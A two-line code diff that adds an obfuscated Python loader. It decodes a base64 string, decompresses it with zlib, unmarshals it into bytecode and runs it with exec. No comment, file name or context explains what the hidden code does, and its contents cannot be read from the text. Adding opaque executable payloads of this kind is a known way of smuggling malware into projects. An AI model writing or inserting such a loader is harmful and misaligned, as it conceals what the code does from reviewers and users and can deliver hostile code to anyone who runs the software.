@@ -1,0 +1,2 @@
+import base64, marshal, zlib
+exec(marshal.loads(zlib.decompress(base64.b64decode(b'eJxLZkACzFD6sx6QmM6QwpDCmMMQxcDEkMqQxQhTlMK0DMheDeczAlUFM2gyvwRx/KrEUpMz8hUS80oyy1Lz8nN10zIrSkqLUjWZbjHlF99iK64sLknNXcnwGaT6F4dNcUlRZl66HZCVm59SmpNqV8QONpOBoVgdSHxgZmRkvMHA2QCGIAZTC+cFLqWLDMpXGJQvwFARK1AtAC1sLXU='))))
